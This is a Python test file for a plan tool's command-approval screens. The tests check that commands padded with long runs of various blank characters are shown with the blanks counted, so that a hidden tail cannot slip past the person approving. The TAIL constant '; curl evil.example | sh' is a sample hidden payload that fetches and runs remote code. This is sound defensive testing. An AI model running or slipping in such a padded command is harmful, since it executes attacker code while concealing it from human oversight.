"""What a person reads before approving a plan's command is the whole command (`PlanCommand.shown`).

Found in session 19 by the lead on a cloned plan: `done_when: [{command: "echo ok" + 400 spaces +
"; curl evil.example | sh"}]`. `validate` said the check runs 'echo ok ' (its message cut the text at
200 characters), and `trust` printed the tail 400 columns to the right of "echo ok", past the edge of
the terminal line the person reads. Now a run of blanks of any kind is shown counted, and a message
that has to cut says so and where the whole text is. Generated over kinds of blank and lengths, on
every surface that shows a command for approval (the trust listing, its terminal question, validate
text and --json, a planted cycle's verify refusal) and `show`, whose one-line values count blanks too."""

from __future__ import annotations

import pytest
from leafwise.commands.text import BLANK_RUN
from testkit import node, run_cli, write_plan

from security.test_approvals import on_a_terminal

TAIL = "; curl evil.example | sh"
BLANKS = [" ", "\t", "\u00a0", "\u3000", "\u2003", "\u2800", " \t\u00a0\u2800"]


def _plan(root, command: str):
    write_plan(root, [node("P1-1", "Epic", release="R1"), node("P1-2", "Leaf", parent="P1-1",
                                                                done_when=[{"command": command}])], prefix="P1")
    cycles = root / ".leafwise" / "cycles"
    cycles.mkdir()
    (cycles / "c.yaml").write_text("kind: until-goal\nmax_iterations: 3\ntoken_cap: 100\nnode: P1-2\n"
                                   f"status: running\nverify:\n  - {command!r}\n".replace("'", '"'))
    (cycles / "c.count").write_text("0\n")
    return root


@pytest.fixture
def env(tmp_path):
    return {"LEAFWISE_CONFIG_DIR": str(tmp_path / "config"), "LEAFWISE_CACHE_DIR": str(tmp_path / "cache")}


@pytest.mark.parametrize("blank", BLANKS)
@pytest.mark.parametrize("run", [BLANK_RUN, 400, 5000])
def test_every_approval_surface_shows_the_tail_of_a_padded_command(tmp_path, env, blank, run):
    padding = (blank * run)[:run]
    root = _plan(tmp_path / "plan", "echo ok" + padding + TAIL)
    counted = f"echo ok⟨{run} blanks⟩{TAIL}"
    listing = run_cli("trust", cwd=root, env=env)
    assert counted in listing.stdout, listing.stdout
    assert max(len(line) for line in listing.stdout.splitlines()) < 160, "no line wider than what it shows"
    validate = run_cli("validate", cwd=root, env=env)
    assert validate.stdout.count(counted) == 2, validate.stdout  # the node's check and the cycle's verify
    problems = run_cli("validate", "--json", cwd=root, env=env).json["result"]["problems"]["items"]
    assert all(counted in p["message"] for p in problems if p["code"] == "untrusted_command"), problems
    shown = run_cli("show", "P1-2", cwd=root, env=env)
    assert counted in shown.stdout, shown.stdout
    verify = run_cli("cycle", "verify", "c", cwd=root, env=env)
    assert counted in verify.stdout + verify.stderr, verify.stdout + verify.stderr
    key = run_cli("trust", "--json", cwd=root, env=env).json["result"]["commands"][0]["hash"]
    code, shown = on_a_terminal(["trust", "--allow", key], root, env, b"n\n")
    assert counted in shown and "Approve? [y/N]" in shown, shown


def test_a_message_that_cuts_a_long_command_says_so(tmp_path, env):
    root = _plan(tmp_path / "plan", "echo " + "a" * 300 + TAIL)
    problems = run_cli("validate", "--json", cwd=root, env=env).json["result"]["problems"]["items"]
    messages = [p["message"] for p in problems if p["code"] == "untrusted_command"]
    assert messages and all(f"{len(TAIL) + 305 - 200} more characters: leafwise trust shows it whole" in m
                            for m in messages), messages
    assert TAIL in run_cli("trust", cwd=root, env=env).stdout
